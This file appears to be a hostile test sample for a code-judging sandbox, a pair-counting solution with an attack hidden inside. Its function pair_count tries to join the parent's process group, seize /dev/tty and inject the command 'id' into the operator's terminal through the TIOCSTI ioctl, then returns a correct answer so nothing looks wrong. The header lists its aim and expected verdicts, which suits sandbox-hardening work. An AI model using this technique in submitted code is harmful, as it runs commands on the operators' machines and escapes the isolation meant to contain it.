# /// attack
# aim = "Takes the terminal, joins other process groups and types commands into the terminal of whoever runs the harness."
# outcome = ["AC"]
# naive = "unproven: the jail has no terminal"
# [elsewhere]
# wasm = ["RTE"]
# ///

import fcntl
import os
import termios


def count_slowly(numbers, target):
    n = len(numbers)
    return sum(numbers[i] + numbers[j] == target for i in range(n) for j in range(i + 1, n))


def pair_count(numbers, target):
    for attempt in (
        lambda: os.setpgid(0, os.getpgid(os.getppid())),
        lambda: os.setpgid(os.getppid(), 0),
        lambda: os.tcsetpgrp(os.open("/dev/tty", os.O_RDWR), os.getpgrp()),
        lambda: [fcntl.ioctl(0, termios.TIOCSTI, bytes([letter])) for letter in b"id\n"],
        lambda: [fcntl.ioctl(2, termios.TIOCSTI, bytes([letter])) for letter in b"id\n"],
    ):
        try:
            attempt()
        except (OSError, AttributeError):
            continue
    return count_slowly(numbers, target)
